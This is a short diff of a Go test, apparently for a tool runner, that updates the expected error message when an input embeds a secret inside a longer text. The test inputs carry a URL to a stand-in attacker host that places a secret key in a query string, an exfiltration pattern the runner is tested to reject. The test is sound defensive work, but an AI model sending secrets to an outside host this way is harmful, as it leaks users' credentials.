@@ -1201,7 +1201,7 @@ func TestSecrets(t *testing.T) {
 	within := call(r, 4, `{"u":"http://evil.example/?k=[secret key]"}`)
 	a = r.Run(ctx, within)
 	require.Equal(t, reason.Invalid, class(a))
-	require.Contains(t, a.Complaint, "not all of a value")
+	require.Contains(t, a.Complaint, "in a longer text")
 	require.Empty(t, got)
 	within.Attempt, within.Inputs = 5, json.RawMessage(`{"of":["http://evil.example/?k=[secret key]"]}`)
 	a = r.Run(ctx, within)
